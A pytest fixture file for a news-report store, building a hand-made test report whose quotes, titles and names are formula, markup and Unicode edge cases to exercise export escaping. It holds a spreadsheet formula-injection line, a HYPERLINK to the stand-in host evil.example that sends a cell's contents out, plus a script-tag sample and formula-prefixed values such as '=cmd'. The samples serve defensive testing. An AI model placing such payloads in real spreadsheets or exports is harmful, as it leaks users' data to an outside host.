"""Two stores to export: the sample, and one made by hand of what is hard to write down."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

import vows
from crisis import Told, plain, talks
from kawat.link.steps import link
from kawat.records import Judgement, Place, Quote
from kawat.store import View, open_store

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1; "open me")'
MARKUP = "<script>alert('hello')</script> & <b>bold</b>"
# beyond the first plane of Unicode, a line of its own, a sign that no calendar allows
STRANGE = "😀 the ships\tleft\x0b\r\nthe harbour; -5 were lost, @noon “𝒜”"
TEXT = f"Harbour news\n\n{FORMULA} he wrote. {MARKUP} she wrote. {STRANGE} they wrote.\n\nNobody was hurt."


def hard() -> Told:
    """A report in which quotes are formulas, markup and strange signs."""
    one = plain(TEXT, "hard.txt", day="2022-01-20/2022-01-23", language="en", publisher="+Harbour Post",
                title="=1+1", url="https://harbour.example/a?b=<c>&d=1", authors=("-A. Writer",))  # fmt: skip
    one.sentence(STRANGE)
    one.quote(FORMULA, day="2022-01-20", act="demand", speaker_actor="FRD", addressee_actor="SLV/official")
    one.quote(MARKUP, day="2022-01-20/2022-01-22", act="deny", speaker=one.span("she"))
    one.quote(STRANGE, "Nobody was hurt", act="assert", speaker_actor="FRD")
    one.event(
        STRANGE, "MOBILIZE", trigger="left", day="2022-01-20/2022-01-22", actors=("FRD",), dated="own",
        recipients=("SLV/official",), where=Place("Port 𝒜", "SLV", 12.5, -70.25, one.span("harbour")),
    )  # fmt: skip
    claimed = Place(
        "The Isle", None, 1.0, 2.0, one.span("harbour"), "The Isle: Sylvania and Freedonia claim it"
    )
    one.event("Nobody was hurt", "ASSAULT", trigger="hurt", status="denied", where=claimed, actors=("SLV",))
    one.event("they wrote", "CONSULT", trigger="wrote", day="2022-01-23", where=Place("Somewhere"))
    one.figure("-5 were lost", -5, -5, "count", of="ships", holder_actor="FRD")
    one.actor("harbour", "SLV/official", name="@official", sort="role", country="SLV")
    one.actor("ships", "FRD", name="Freedonia", names={"en": ("Freedonia", "=Freedonia")}, country="FRD")
    one.failure("times", "=cmd")
    return one


@pytest.fixture(scope="session")
def made_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of a few reports made by hand, with a record of every kind; for reading only."""
    path = tmp_path_factory.mktemp("made") / "made.kawat"
    reports = [
        talks(),
        talks("copy.txt", publisher="Copy Post"),
        hard(),
        vows.promised(),
        vows.done(),
        vows.planned(),
        _counted("forty.txt", 40),
        _counted("ninety.txt", 90),
    ]
    with open_store(path, create=True) as store, store.writer() as writer:
        for report in reports:
            report.add(writer)
        link(writer, containment=0.5)
        left = writer.records(Quote, report=reports[0].id)[0].id
        writer.judge(
            Judgement(left=left, right=left, verdict="right", by="=me", when="2022-02-01", note="-so")
        )
    return path


def _counted(source: str, number: int) -> Told:
    """A report that counts the ships of Freedonia: with another, a disagreement."""
    one = vows.report(source, "2022-01-21", f"Pavel Roskov said Freedonia has {number} warships at sea")
    one.figure(f"{number} warships", number, number, "count", of="warships", holder_actor="FRD",
               according_to_actor="pavel-roskov", as_of="2022-01-21")  # fmt: skip
    return one


@pytest.fixture(params=["made", "sample"])
def view(request: pytest.FixtureRequest) -> Iterator[View]:
    """A view of each of the two stores."""
    path = request.getfixturevalue(f"{request.param}_store")
    with open_store(path) as store, store.view() as opened:
        yield opened


@pytest.fixture
def made(made_store: Path) -> Iterator[View]:
    """A view of the store made by hand."""
    with open_store(made_store) as store, store.view() as opened:
        yield opened
